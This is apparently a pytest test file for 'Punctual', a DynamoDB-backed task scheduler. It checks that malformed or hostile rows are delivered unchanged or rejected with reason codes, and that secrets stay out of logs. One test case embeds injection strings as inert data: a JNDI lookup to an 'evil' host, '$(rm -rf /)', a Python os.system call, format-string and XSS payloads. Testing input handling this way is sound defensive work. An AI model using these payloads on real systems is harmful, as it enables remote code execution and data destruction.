"""Hostile input (invariant 3, docs/architecture.md): every row is delivered faithfully or rejected with a reason.

All the rows of one catalogue are written together, so they travel in the same
stream batches and poll windows: none may crash a batch or hold up valid rows.
"""

from __future__ import annotations

import base64
import json
from decimal import Decimal
from typing import Any

import pytest

from punctual.core.config import ATTR_EXPIRES, Settings
from punctual.core.keys import encode_sk
from punctual.core.models import MAX_EVENT_BYTES, MAX_PAYLOAD_BYTES, RowRejected, dumps, task_from_item
from tests.reliability.crashes import START, run_items

PK = "scheduler"
DUE = START + 30_000
SECRET = "tok-7c1e-SECRET-do-not-log"


def item(sk: Any, payload: Any = None, pk: Any = PK, **extra: Any) -> dict[str, Any]:
    out: dict[str, Any] = {"pk": {"S": pk} if isinstance(pk, str) else pk,
                           "sk": {"S": sk} if isinstance(sk, str) else sk}
    if payload is not None:
        out["payload"] = payload
    out.update(extra)
    return out


def m(**fields: Any) -> dict[str, Any]:
    return {"M": fields}


def s(v: str) -> dict[str, str]:
    return {"S": v}


def nested(depth: int) -> dict[str, Any]:
    av: dict[str, Any] = s("bottom")
    for i in range(depth):
        av = m(**{f"l{i}": av})
    return av


def plain_nested(depth: int) -> Any:
    v: Any = "bottom"
    for i in range(depth):
        v = {f"l{i}": v}
    return v


def big_payload(total_json_bytes: int) -> tuple[dict[str, Any], dict[str, Any]]:
    """A payload (AV, plain) whose compact JSON is exactly ``total_json_bytes`` long."""
    overhead = len(dumps({"blob": ""}).encode())
    text = "x" * (total_json_bytes - overhead)
    return m(blob=s(text)), {"blob": text}


# id -> (row, expected plain payload) for rows that must be delivered faithfully
MAX_ID = "🚀" * 252 + "ii"  # 254 characters, 1010 bytes: the longest id keys.MAX_ID_BYTES allows
near_limit_av, near_limit_plain = big_payload(MAX_PAYLOAD_BYTES)
VALID: dict[str, tuple[dict[str, Any], Any]] = {
    "unicode": (item(encode_sk(DUE, "tâche-Ω-🚀-注文"), m(msg=s("héllo 🌍"))), {"msg": "héllo 🌍"}),
    "hash-in-id": (item(encode_sk(DUE, "a#b##c#"), m(k=s("v"))), {"k": "v"}),
    "max-id": (item(encode_sk(DUE, MAX_ID), m(k=s("v"))), {"k": "v"}),
    "epoch-zero": (item("0000000000000#epoch", m(k=s("v"))), {"k": "v"}),
    "nested-32": (item(encode_sk(DUE, "nested"), m(n=nested(31))), {"n": plain_nested(31)}),
    "types": (
        item(encode_sk(DUE, "types"), m(
            b={"B": base64.b64decode("AAEC/w==")}, ss={"SS": ["b", "a"]}, ns={"NS": ["10", "-1.5", "2"]},
            bs={"BS": [b"\x01", b"\x00"]}, big={"N": "1E+125"}, tiny={"N": "-1E-130"},
            prec={"N": "12345678901234567890123456789012345678"}, null={"NULL": True}, t={"BOOL": True},
            lst={"L": [s("x"), {"N": "1"}, {"L": []}, m()]}, empty=s(""), emptymap=m(),
        )),
        {"b": "AAEC/w==", "ss": ["a", "b"], "ns": [Decimal("-1.5"), 2, 10], "bs": ["AA==", "AQ=="],
         "big": Decimal("1E+125"), "tiny": Decimal("-1E-130"), "prec": 12345678901234567890123456789012345678,
         "null": None, "t": True,
         "lst": ["x", 1, [], {}], "empty": "", "emptymap": {}},
    ),
    "templates": (
        item(encode_sk(DUE, "templates"), m(a=s("{{7*7}}"), b=s("${jndi:ldap://evil/x}"), c=s("$(rm -rf /)"),
                                           d=s("__import__('os').system('id')"), e=s("%s%n%x"),
                                           f=s("<script>alert(1)</script>"), g=s("\u0000\u202e"))),
        {"a": "{{7*7}}", "b": "${jndi:ldap://evil/x}", "c": "$(rm -rf /)", "d": "__import__('os').system('id')",
         "e": "%s%n%x", "f": "<script>alert(1)</script>", "g": "\u0000\u202e"},
    ),
    "extra-attrs": (
        item(encode_sk(DUE, "extra"), m(k=s(SECRET)), owner=s("someone"), ttl={"N": "1"},
             note=m(hidden=s("not-for-delivery"))),
        {"k": SECRET},
    ),
    "near-event-limit": (item(encode_sk(DUE, "near-limit-" + "j" * 500), near_limit_av), near_limit_plain),
    # a send mark no poll could have written (far future): resent as an orphan, not left "in flight" forever
    "future-mark": (item(encode_sk(DUE, "bk-future"), m(k=s("v")), punctual_enqueued_ms={"N": "9000000000000000"},
                         punctual_attempt={"N": "1"}), {"k": "v"}),
    "future-mark-beyond": (item(encode_sk(START + 3_600_000, "bk-future-2"), m(k=s("v")),
                                punctual_enqueued_ms={"N": "9000000000000000"}), {"k": "v"}),
}

# id -> (row, reason code) for rows that must be rejected visibly
over_av, _ = big_payload(MAX_PAYLOAD_BYTES + 1)
huge_av, _ = big_payload(390_000)
REJECTED: dict[str, tuple[dict[str, Any], str]] = {
    "oversize-by-1": (item(encode_sk(DUE, "over"), over_av), "oversize"),
    "near-400KB": (item(encode_sk(DUE, "huge"), huge_av), "oversize"),
    "year-2286": (item("9999999999999#x", m(k=s("v"))), "year_out_of_range"),
    "year-2200": (item(f"{7_258_118_400_000:013d}#y2200", m(k=s("v"))), "year_out_of_range"),
    "empty-id": (item(f"{DUE:013d}#", m(k=s("v"))), "missing_id"),
    "no-hash": (item(f"{DUE:013d}", m(k=s("v"))), "missing_id"),
    "seconds": (item(f"{DUE // 1000}#secs", m(k=s("v"))), "seconds_not_ms"),
    "iso": (item("2027-01-01T00:00:30Z#iso", m(k=s("v"))), "iso_string"),
    "negative": (item("-000000000001#neg", m(k=s("v"))), "negative"),
    "arabic-digits": (item("١٧٩٨٧٦١٦٣٠٠٠٠#ar", m(k=s("v"))), "malformed"),
    "space": (item(f" {DUE:013d}#sp", m(k=s("v"))), "malformed"),
    "14-digits": (item(f"{DUE:014d}#wide", m(k=s("v"))), "malformed"),
    "nul-in-id": (item(f"{DUE:013d}#a\u0000b", m(k=s("v"))), "bad_id"),
    "missing-payload": (item(encode_sk(DUE, "nopayload")), "missing_payload"),
    "payload-string": (item(encode_sk(DUE, "pstr"), s(SECRET)), "payload_not_map"),
    "payload-null": (item(encode_sk(DUE, "pnull"), {"NULL": True}), "payload_not_map"),
    "payload-list": (item(encode_sk(DUE, "plist"), {"L": [s("x")]}), "payload_not_map"),
    "sk-number": (item({"N": str(DUE)}, m(k=s("v"))), "not_a_string"),
    "enqueued-garbage": (item(encode_sk(DUE, "bk-s"), m(k=s("v")), punctual_enqueued_ms=s("soon")),
                         "bad_bookkeeping"),
    "enqueued-fraction": (item(encode_sk(DUE, "bk-f"), m(k=s("v")), punctual_enqueued_ms={"N": "1.5"}),
                          "bad_bookkeeping"),
    "attempt-garbage": (item(encode_sk(DUE, "bk-a"), m(k=s("v")), punctual_attempt=s("many")), "bad_bookkeeping"),
    "takeovers-garbage": (item(encode_sk(DUE, "bk-t"), m(k=s("v")), punctual_takeovers=s("x")), "bad_bookkeeping"),
}


def test_task_from_item_catalogue():
    for name, (row, expected) in VALID.items():
        task = task_from_item(row, PK)
        assert task.payload == expected, name
    for name, (row, code) in REJECTED.items():
        with pytest.raises(RowRejected) as err:
            task_from_item(row, PK)
        assert err.value.code == code, (name, err.value.code, err.value.reason)
        assert err.value.reason


def test_nan_like_numbers_are_rejected_not_crashing():
    for text in ("NaN", "Infinity", "-Infinity", "1e999999", "0x10", ""):
        with pytest.raises(RowRejected) as err:
            task_from_item(item(encode_sk(DUE, "n"), m(x={"N": text})), PK)
        assert err.value.code == "payload_unsupported", text


def _in_shards(row: dict, settings: Settings) -> dict:
    """The row under its shard's partition (docs/architecture.md, "Shards"), as the client writes it."""
    if settings.shards == 1 or row.get("pk") != {"S": "scheduler"} or "S" not in row.get("sk", {}):
        return row
    try:
        return {**row, "pk": {"S": settings.partition_for_key(row["sk"]["S"])}}
    except Exception:  # noqa: BLE001 - a key with no id: stays in the bare partition
        return row


@pytest.mark.parametrize("shards", [1, 2])
def test_hostile_catalogue_end_to_end(shards):
    """Valid and hostile rows together: valid ones delivered exactly, the others rejected with a
    reason; with 2 shards, each row under its id's shard (issue 28: the catalogue with 1 and 2)."""
    settings = Settings(send_workers=1, shards=shards)
    rows = [row for row, _ in VALID.values()] + [row for row, _ in REJECTED.values() if "S" in row["sk"]]
    rows = [_in_shards(row, settings) for row in rows]
    if shards == 2:
        assert {r["pk"]["S"] for r in rows} >= {"scheduler#0", "scheduler#1"}
    # a row of another partition (a typo'd pk): never delivered, but not silently ignored either
    foreign = item(encode_sk(DUE, "foreign"), m(k=s("v")), pk="Scheduler")
    rows.append(foreign)
    expected = {row["sk"]["S"]: int(row["sk"]["S"][:13]) for row, _ in VALID.values()}
    run = run_items(rows, expected, settings=settings)
    out = run.outcome
    assert out.lost == [] and out.early == [] and out.unexpected == [], (out.lost, out.early, out.unexpected)
    assert out.errors == []
    by_key = out.by_key
    for name, (row, plain) in VALID.items():
        (d,) = by_key[row["sk"]["S"]]
        assert d.event["payload"] == plain, name
        # nothing of the row but its payload travels: extra attributes are not delivered
        assert set(d.event) >= {"id", "due", "due_ms", "payload", "delivered_at", "lateness_ms", "attempt", "key",
                                "publicationTimestamp"}
        assert "owner" not in dumps(d.event) and "not-for-delivery" not in dumps(d.event)
    near = by_key[VALID["near-event-limit"][0]["sk"]["S"]][0]
    assert len(dumps(near.event).encode()) <= MAX_EVENT_BYTES
    codes = {}
    for r in run.rejected:
        codes[r["sk"]] = r["code"]
        assert r["reason"] and r["source"]
    for name, (row, code) in REJECTED.items():
        sk = row["sk"].get("S")
        if sk is None:
            continue  # a non-string sk cannot be written: DynamoDB refuses it (see test below)
        assert codes.get(sk) == code, (name, codes.get(sk))
    assert codes.get(foreign["sk"]["S"]) == "wrong_pk"
    # rejected rows left the table; Punctual's own meta items (another pk: the rule's row and the
    # delivery fences, which expire) were not taken for one
    left = {(r["pk"].get("S"), r["sk"].get("S")) for r in run.remaining}
    assert all(pk == "__punctual__" and (sk == "rule" or sk.startswith("fence#")) for pk, sk in left), left
    assert all(ATTR_EXPIRES in r for r in run.remaining if r["sk"]["S"].startswith("fence#"))


def test_payloads_are_not_logged_by_default():
    rows = [item(encode_sk(DUE, "secret"), m(token=s(SECRET))),
            item(encode_sk(DUE, "bad-secret"), s(SECRET)),
            item("2027-01-01T00:00:30Z#" + "iso", m(token=s(SECRET)))]
    run = run_items(rows, {rows[0]["sk"]["S"]: DUE})
    assert run.outcome.lost == []
    assert run.log, "no log output captured"
    assert SECRET not in run.log
    for line in run.log.splitlines():
        json.loads(line)  # every line is structured JSON


def test_payloads_logged_only_when_opted_in():
    from dataclasses import replace

    from tests.reliability.crashes import Settings

    rows = [item(encode_sk(DUE, "secret"), m(token=s(SECRET)))]
    run = run_items(rows, {rows[0]["sk"]["S"]: DUE}, settings=replace(Settings(send_workers=1), log_payloads=True))
    assert run.outcome.lost == []
    assert SECRET in run.log


def test_moto_refuses_what_dynamodb_refuses():
    """Rows DynamoDB itself refuses never reach Punctual (checked once against moto)."""
    import boto3
    from botocore.exceptions import ClientError
    from moto import mock_aws

    from tests.support import make_stack

    with mock_aws():
        stack = make_stack()
        ddb = boto3.client("dynamodb", region_name="us-east-1")
        for bad in (item({"N": "1"}, m()), item("", m()), item(encode_sk(DUE, "x"), m(), pk="")):
            with pytest.raises(ClientError):
                ddb.put_item(TableName=stack.settings.table_name, Item=bad)


# ---------------------------------------------------------------- client and CLI inputs
def _client():
    from punctual.client import PunctualClient

    return PunctualClient("punctual", ddb=object())  # build_item validates without any AWS call


@pytest.mark.parametrize("at, code", [
    (__import__("datetime").datetime(2027, 1, 1), "naive_datetime"),
    ("2027-01-01T00:00:00Z", "bad_time"),
    (None, "bad_time"),
    (True, "bad_time"),
    (float("nan"), "bad_time"),
    (1.5, "bad_time"),
    (1_798_761_600, "seconds_not_ms"),
    (-1, "negative"),
    (7_258_118_400_000, "year_out_of_range"),
])
def test_client_refuses_bad_times(at, code):
    from punctual.errors import InvalidSchedule

    with pytest.raises(InvalidSchedule) as err:
        _client().build_item(at, {"k": "v"})
    assert err.value.code == code, (at, err.value)


def test_client_accepts_far_past_and_last_ms():
    from datetime import UTC, datetime

    c = _client()
    for at, due in ((datetime(1999, 12, 31, 23, 59, tzinfo=UTC), 946_684_740_000),
                    (datetime(2199, 12, 31, 23, 59, 59, 999_000, tzinfo=UTC), 7_258_118_399_999)):
        item, task = c.build_item(at, {"k": "v"}, id="far")
        assert task.due_ms == due, at


@pytest.mark.parametrize("payload, id_, code", [
    ("not a dict", None, "payload_not_map"),
    ({"s": {1, 2}}, None, "payload_unsupported"),
    ({"f": float("inf")}, None, "payload_unsupported"),
    ({"o": object()}, None, "payload_unsupported"),
    ({"blob": "x" * 300_000}, None, "oversize"),
    ({"k": "v"}, "", "missing_id"),
    ({"k": "v"}, "a\u0000b", "bad_id"),
])
def test_client_refuses_bad_payloads_and_ids(payload, id_, code):
    from punctual.errors import InvalidSchedule

    with pytest.raises(InvalidSchedule) as err:
        _client().build_item(1_798_761_600_000, payload, id=id_)
    assert err.value.code == code


@pytest.mark.parametrize("args, message", [
    (["--at", "2027-01-01T00:00:00"], "no zone"),
    (["--at", "2027-13-01T00:00:00Z"], "bad time"),
    (["--at", "2200-01-01T00:00:00Z"], "2199"),
    (["--at", "1798761600"], "13-digit"),
    (["--in", "soon"], "bad duration"),
])
def test_cli_rejects_bad_times_with_one_line(capsys, args, message):
    from punctual.cli import main

    rc = main(["schedule", *args, "--payload", "{}", "--endpoint-url", "http://127.0.0.1:9"])
    err = capsys.readouterr().err
    assert rc != 0 and message in err and "Traceback" not in err, err
